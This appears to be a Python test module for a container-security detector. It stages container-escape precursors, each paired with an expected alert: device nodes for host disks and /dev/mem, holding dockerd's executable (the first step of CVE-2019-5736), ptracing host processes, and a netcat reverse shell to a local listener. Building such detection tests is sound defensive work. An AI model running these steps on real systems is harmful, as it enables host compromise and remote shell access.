"""What is held open: namespaces, disks, memory, the runtime, bpf, what exploits begin with, and a shell on a socket."""

import os
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path

from tests.support.engine import Container
from tests.support.patience import patient
from tests.support.processes import (
    file_id,
    mount_ids,
    namespace,
    require,
    unique_seconds,
    wait_for_process,
    wait_until,
)
from tests.support.stage import (
    CRITICAL,
    HIGH,
    LOW,
    MEDIUM,
    TOOLS,
    Act,
    CannotHereError,
    Expected,
    Outcome,
    Stage,
    host_directory,
    needs_program,
    run_on_host,
)

HOST_PID = "--pid=host"
HOLDING = ("sh", "-c", 'exec 3< "$0"; exec "$@"')
DISK_BYTES = 1 << 20


def _links(pid: int) -> list[str]:
    """What every descriptor of a process leads to, as the kernel prints it."""
    return [os.readlink(each) for each in Path(f"/proc/{pid}/fd").iterdir()]


def _hold(stage: Stage, container: Container, path: str) -> int:
    """A process in the container that holds a file open; its host pid."""
    return stage.sleep_inside(container, *HOLDING, path)


@contextmanager
def hold_host_namespace(stage: Stage) -> Iterator[Outcome]:
    """A descriptor of the host's network namespace, not entered."""
    with stage.victim() as victim, stage.capable(HOST_PID) as container:
        pid = _hold(stage, container, f"/proc/{victim.pid}/ns/net")
        require(f"net:[{namespace('self', 'net')}]" in _links(pid), "it does not hold the namespace")
        yield Outcome(container.id, (pid,))


@contextmanager
def hold_disk(stage: Stage) -> Iterator[Outcome]:
    """A disk of the node, by a device node of the container's own making."""
    with host_directory() as directory:
        disk = directory / "disk"
        disk.write_bytes(bytes(DISK_BYTES))
        device = run_on_host("losetup", "--find", "--show", str(disk)).strip()
        try:
            numbers = os.stat(device).st_rdev
            rule = ("--device-cgroup-rule", f"b {os.major(numbers)}:* rwm")
            with stage.capable(*rule) as container:
                stage.shell(container, f"mknod /innocent b {os.major(numbers)} {os.minor(numbers)}")
                pid = _hold(stage, container, "/innocent")
                require("/innocent" in _links(pid), "it does not hold the disk")
                yield Outcome(container.id, (pid,), text="/innocent")
        finally:
            run_on_host("losetup", "--detach", device)


@contextmanager
def hold_host_disk(stage: Stage) -> Iterator[Outcome]:
    """The disk that the host's own root lives on, to read only."""
    row = next(line.split(" ") for line in mount_ids("self").values() if line.split(" ")[4] == "/")
    if row[2].startswith("0:"):
        raise CannotHereError("the host's / is not on a block device")
    major, minor = row[2].split(":")
    _needs_to_open(f"/dev/block/{row[2]}")
    with stage.capable("--device-cgroup-rule", f"b {major}:{minor} rwm") as container:
        stage.shell(container, f"mknod /innocent b {major} {minor}")
        pid = _hold(stage, container, "/innocent")
        require("/innocent" in _links(pid), "it does not hold the disk")
        yield Outcome(container.id, (pid,), text="/innocent")


@contextmanager
def hold_kernel_memory(stage: Stage) -> Iterator[Outcome]:
    """/dev/mem, by a device node of the container's own making."""
    _needs_to_open("/dev/mem")
    with stage.capable("--device-cgroup-rule", "c 1:* rwm") as container:
        stage.shell(container, "mknod /innocent c 1 1")
        pid = _hold(stage, container, "/innocent")
        require("/innocent" in _links(pid), "it does not hold the memory")
        yield Outcome(container.id, (pid,), text="/innocent")


def _needs_to_open(path: str) -> None:
    """The machine itself may be a container of somebody, and lack it: then `tests/scenarios` has a capture."""
    try:
        os.close(os.open(path, os.O_RDONLY))
    except OSError as error:
        raise CannotHereError(f"the machine itself cannot open {path}: {error.strerror}") from error


@contextmanager
def hold_network_device(stage: Stage) -> Iterator[Outcome]:
    """The node's tun device, by a device node of the container's own making; the bundle does not name it."""
    _needs_to_open("/dev/net/tun")
    with stage.capable("--device-cgroup-rule", "c *:* rwm") as container:
        stage.shell(container, "mknod /innocent c 10 200")
        pid = _hold(stage, container, "/innocent")
        require("/innocent" in _links(pid), "it does not hold the device")
        yield Outcome(container.id, (pid,), text="/innocent")


@contextmanager
def hold_runtime(stage: Stage) -> Iterator[Outcome]:
    """The engine's own executable through /proc/PID/exe of its process: the first half of CVE-2019-5736."""
    pids = [int(each.name) for each in Path("/proc").iterdir() if each.name.isdigit() and _runs(each, "dockerd")]
    if not pids:
        raise CannotHereError("no dockerd runs")
    with stage.capable(HOST_PID) as container:
        pid = _hold(stage, container, f"/proc/{pids[0]}/exe")
        held = {file_id(f"/proc/{pid}/fd/{each.name}") for each in Path(f"/proc/{pid}/fd").iterdir()}
        require(file_id(f"/proc/{pids[0]}/exe") in held, "it does not hold the engine's executable")
        yield Outcome(container.id, (pid,), text="dockerd")


def _runs(process: Path, name: str) -> bool:
    try:
        return os.readlink(process / "exe").endswith(f"/{name}")
    except OSError:
        return False


def _held(
    kind: str, link: str, argument: str = "-", *options: str
) -> Callable[[Stage], AbstractContextManager[Outcome]]:
    """Something that the tool `hold` opens; `link` is in what the kernel prints of it."""

    @contextmanager
    def perform(stage: Stage) -> Iterator[Outcome]:
        with stage.capable(*options) as container:
            pid = stage.sleep_inside(container, f"{TOOLS}/hold", kind, argument)
            require(any(link in each for each in _links(pid)), f"it holds no {kind}: {_links(pid)}")
            yield Outcome(container.id, (pid,), text=kind)

    return perform


@contextmanager
def shell_on_connection(stage: Stage) -> Iterator[Outcome]:
    """A program whose input and output are a connection that it made: a reverse shell, to a listener at its side."""
    script = f'nc -l -p 4444 > /dev/null & sleep {patient(0.3)}; exec nc 127.0.0.1 4444 -e "$0" "$@"'
    with stage.container() as container:
        pid = stage.sleep_inside(container, "sh", "-c", script)
        streams = {os.readlink(f"/proc/{pid}/fd/{number}") for number in (0, 1)}
        require(len(streams) == 1 and streams.pop().startswith("socket:"), "its streams are no connection")
        yield Outcome(container.id, (pid,))


@contextmanager
def trace_host_process(stage: Stage) -> Iterator[Outcome]:
    """A process of the host is traced, as a debugger does it."""
    with stage.victim() as victim, stage.capable(HOST_PID) as container:
        pid = stage.sleep_inside(container, f"{TOOLS}/hold", "ptrace", str(victim.pid))
        text = Path(f"/proc/{victim.pid}/status").read_text()
        require(f"TracerPid:\t{pid}\n" in text, "the host's process is not traced")
        yield Outcome(container.id, (pid,))


@contextmanager
def hold_host_memory(stage: Stage) -> Iterator[Outcome]:
    """The memory of a process of the host is held open: no ptrace, no event."""
    with stage.victim() as victim, stage.capable(HOST_PID) as container:
        pid = _hold(stage, container, f"/proc/{victim.pid}/mem")
        require(f"/proc/{victim.pid}/mem" in _links(pid), "it does not hold the memory")
        yield Outcome(container.id, (pid,))


@contextmanager
def run_client_of_cluster(stage: Stage) -> Iterator[Outcome]:
    """A program under the name of the cluster's client, which is all that tells such a tool."""
    seconds = unique_seconds()
    with stage.container() as container:
        needs_program("sleep")
        stage.shell(container, "cp /usr/bin/dynamic-sleep /tmp/kubectl")
        stage.engine.execute(container, "/tmp/kubectl", seconds, options=("-d",))
        pid = wait_for_process(seconds, first="kubectl")
        yield Outcome(container.id, (pid,), text="kubectl")


@contextmanager
def enter_with_terminal(stage: Stage) -> Iterator[Outcome]:
    """`docker exec -t`: somebody sits at a terminal inside."""
    with stage.container() as container:
        pid = stage.sleep_inside(container, options=("-t",))
        wait_until(lambda: os.readlink(f"/proc/{pid}/fd/0").startswith("/dev/"), "a terminal")
        yield Outcome(container.id, (pid,))


ACTS = (
    Act("hold_host_namespace", hold_host_namespace, (Expected("HW-201", HIGH),)),
    Act("hold_disk", hold_disk, (Expected("HW-203", HIGH),)),
    Act("hold_host_disk", hold_host_disk, (Expected("HW-203", CRITICAL),)),
    Act("hold_kernel_memory", hold_kernel_memory, (Expected("HW-204", HIGH),)),
    Act("hold_network_device", hold_network_device, (Expected("HW-204", MEDIUM),)),
    Act("hold_runtime", hold_runtime, (Expected("HW-221", CRITICAL),)),
    Act("hold_bpf_map", _held("bpf", "bpf-map"), (Expected("HW-216", MEDIUM),)),
    Act("hold_userfaultfd", _held("userfaultfd", "[userfaultfd]"), (Expected("HW-225", LOW),)),
    Act("hold_file_system_context", _held("fscontext", "[fscontext]"), (Expected("HW-225", LOW),)),
    Act("shell_on_connection", shell_on_connection, (Expected("HW-226", MEDIUM),)),
    Act("attach_to_host_process", trace_host_process, (Expected("HW-213", HIGH),), weakest="netlink"),
    Act("hold_host_memory", hold_host_memory, (Expected("HW-213", HIGH),)),
    Act("run_client_of_cluster", run_client_of_cluster, (Expected("HW-227", LOW),)),
    Act("enter_with_terminal", enter_with_terminal, (Expected("HW-229", 10),)),
)
